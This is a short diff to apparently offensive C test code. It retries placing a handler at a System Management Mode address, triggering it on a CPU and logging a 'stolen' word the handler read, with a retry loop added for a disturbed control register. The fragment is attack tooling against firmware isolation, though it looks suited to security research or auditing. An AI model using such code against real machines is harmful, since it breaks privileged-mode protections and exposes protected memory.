@@ -17,6 +17,7 @@
 #include "victim.h"
 
 /* From a reset CPU's SMBASE, 0x30000 (APM Vol.2 10.2): the handler, and the state that is saved. */
+#define CONTROL_TRIES 5u
 #define HANDLER       0x38000ull
 #define HANDLER_BYTES 24u
 #define STOLEN        0x3c000ull /* what the handler read */
@@ -96,9 +97,12 @@ static void try_way(const struct way *way, unsigned int cpu)
     lay_handler();
     if (inside)
         audit_mark();
-    way->send(cpu);
-    run_on(0);
-    ran = it_ran();
+    /* The control may be disturbed: Linux uses the command register between its two halves. */
+    for (unsigned int tries = inside ? 1 : CONTROL_TRIES; tries && !ran; tries--) {
+        way->send(cpu);
+        run_on(0);
+        ran = it_ran();
+    }
     if (ran)
         note("the handler ran, and read %#llx", (unsigned long long)read_word(STOLEN));
     if (!inside && way->by_chipset)
